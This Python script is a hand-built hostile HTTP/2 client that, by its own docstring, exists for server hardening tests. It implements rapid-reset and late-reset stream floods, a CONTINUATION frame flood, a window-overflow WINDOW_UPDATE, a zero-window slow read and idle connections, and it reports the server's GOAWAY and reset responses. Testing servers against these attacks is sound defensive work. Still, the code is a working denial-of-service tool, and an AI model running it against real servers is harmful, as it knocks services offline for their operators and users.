"""A hostile HTTP/2 client for the hardening tests, written frame by frame (hyperframe and
hpack) so it can do what no polite client library will.

    h2_abuse.py ADDR AUTHORITY MODE [N]

MODE:
  rapid_reset N   N times: HEADERS for GET /slow?ms=3000, then RST_STREAM(CANCEL) at once
  late_reset N    the same, in batches of 10 reset 20 ms after they were sent: the server
                  has accepted them, and sent them on, by then
  continuation N  one HEADERS without END_HEADERS, then up to N CONTINUATION frames of 16 KiB
  window_overflow a connection WINDOW_UPDATE that takes the window past 2^31-1
  never_read      GET /bytes?n=4194304 with a zero stream window, never opened again
  idle N          nothing after the preface, for up to N seconds

It prints one JSON line: what it sent, whether and how the server closed the connection
(GOAWAY's error code), and any RST_STREAM it got.
"""

import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Conn:
    def __init__(self, addr):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.buf = b""
        self.goaway = None
        self.resets = []
        self.closed = False
        self.encoder = hpack.Encoder()
        # A client that reads answers PINGs, as any HTTP/2 client library does.
        self.answer_pings = True

    def send(self, frame_or_bytes):
        data = frame_or_bytes if isinstance(frame_or_bytes, bytes) else frame_or_bytes.serialize()
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream_id, authority, path, end_headers=True):
        block = self.encoder.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
        )
        f = HeadersFrame(stream_id, block)
        f.flags.add("END_STREAM")
        if end_headers:
            f.flags.add("END_HEADERS")
        return f

    def read_available(self, wait=0.0):
        """Reads what the server sent within `wait` seconds; notes GOAWAY, resets, EOF."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets.append([frame.stream_id, frame.error_code])
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags and self.answer_pings:
                ack = PingFrame(0, opaque_data=frame.opaque_data)
                ack.flags.add("ACK")
                self.send(ack)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack)

    def wait_closed(self, secs):
        deadline = time.monotonic() + secs
        while not self.closed and time.monotonic() < deadline:
            self.read_available(0.2)


def main():
    addr, authority, mode = sys.argv[1], sys.argv[2], sys.argv[3]
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    c = Conn(addr)
    started = time.monotonic()
    settings = SettingsFrame(0)
    if mode == "never_read":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
        c.answer_pings = False
    c.send(PREFACE + settings.serialize())
    c.read_available(0.5)
    sent = 0
    if mode == "rapid_reset":
        stream_id = 1
        while sent < n and not c.closed and c.goaway is None:
            c.send(c.headers(stream_id, authority, "/slow?ms=3000"))
            c.send(RstStreamFrame(stream_id, error_code=CANCEL))
            stream_id += 2
            sent += 1
            if sent % 10 == 0:
                c.read_available(0.001)
        c.wait_closed(10)
    elif mode == "late_reset":
        stream_id = 1
        while sent < n and not c.closed and c.goaway is None:
            batch = []
            for _ in range(10):
                c.send(c.headers(stream_id, authority, "/slow?ms=3000"))
                batch.append(stream_id)
                stream_id += 2
            c.read_available(0.02)
            for s in batch:
                c.send(RstStreamFrame(s, error_code=CANCEL))
            sent += len(batch)
            c.read_available(0.001)
        c.wait_closed(10)
    elif mode == "continuation":
        c.send(c.headers(1, authority, "/", end_headers=False))
        junk = c.encoder.encode([("x-flood", "a" * 8000), ("x-flood-2", "b" * 8000)])
        while sent < n and not c.closed and c.goaway is None:
            c.send(ContinuationFrame(1, junk))
            sent += 1
            if sent % 4 == 0:
                c.read_available(0.001)
        c.wait_closed(10)
    elif mode == "window_overflow":
        c.send(WindowUpdateFrame(0, window_increment=2**31 - 1))
        c.send(WindowUpdateFrame(0, window_increment=2**31 - 1))
        sent = 2
        c.wait_closed(10)
    elif mode == "idle":
        c.wait_closed(n)
    elif mode == "never_read":
        c.send(c.headers(1, authority, "/bytes?n=4194304"))
        sent = 1
        # Waits for the stream to be reset (or the connection closed), reading as it goes
        # but never opening a window.
        deadline = time.monotonic() + n
        while not c.closed and not c.resets and time.monotonic() < deadline:
            c.read_available(0.2)
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(
        json.dumps(
            {
                "sent": sent,
                "goaway": c.goaway,
                "closed": c.closed,
                "resets": c.resets,
                "seconds": round(time.monotonic() - started, 3),
            }
        )
    )


if __name__ == "__main__":
    main()
